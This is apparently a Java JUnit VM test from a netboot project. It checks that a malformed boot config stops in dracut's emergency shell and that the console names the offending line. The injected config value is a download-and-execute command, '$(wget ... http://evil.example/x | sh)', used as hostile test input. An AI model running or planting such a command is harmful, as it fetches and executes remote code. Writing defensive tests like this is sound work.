package org.openslx.netboot.boot;

import static org.assertj.core.api.Assertions.assertThat;

import java.nio.file.Files;
import java.nio.file.Path;
import java.time.Duration;
import java.util.Map;
import java.util.regex.Pattern;
import org.junit.jupiter.api.Tag;
import org.junit.jupiter.api.Test;

/**
 * A config line that only a shell could evaluate: stage3 refuses it, the console says which line
 * and why in one sentence, and the boot stops in dracut's emergency shell instead of waiting for
 * the initqueue to time out.
 */
@Tag("vm")
class BrokenConfigBootTest {

    @Test
    void aConfigLineNeedingAShellEndsInTheEmergencyShellWithTheLineNamed() throws Exception {
        Path dir = VmRig.scenarioDir("broken-config");
        Stage4Image image = VmRig.stage4Image();
        Path initrd = VmRig.slxInitramfs();
        try (BootSite site = BootSite.start(dir.resolve("srv"), image, VmRig.kernel(), initrd, Map.of())) {
            Files.writeString(site.config(), Files.readString(site.config())
                    + "SLX_DNBD3_IMAGE=\"$(wget -O- http://evil.example/x | sh)\"\n");
            var options = QemuClient.Options.directBoot(VmRig.kernel(), initrd, site.pxeKernelLine(""),
                    dir.resolve("console.log")).withLimit(VmRig.BOOT_LIMIT);
            try (QemuClient vm = QemuClient.start(options, null)) {
                var emergency = vm.awaitLine(Pattern.compile("Entering emergency mode|dracut-emergency|emergency shell"),
                        VmRig.BOOT_LIMIT);
                vm.awaitLine(Pattern.compile("Give root password|Press Enter|maintenance"), Duration.ofSeconds(30));
                vm.close();
                BootTranscript boot = new BootTranscript(vm.lines());
                assertThat(emergency).as("the boot stopped in the emergency shell").isPresent();
                assertThat(boot.linesContaining("slx: FAILED:"))
                        .as("one clear sentence naming the config and the offending line")
                        .anySatisfy(line -> assertThat(line).contains("config").containsPattern("line \\d+"));
                assertThat(boot.reachedStage4()).isFalse();
            }
        }
    }
}
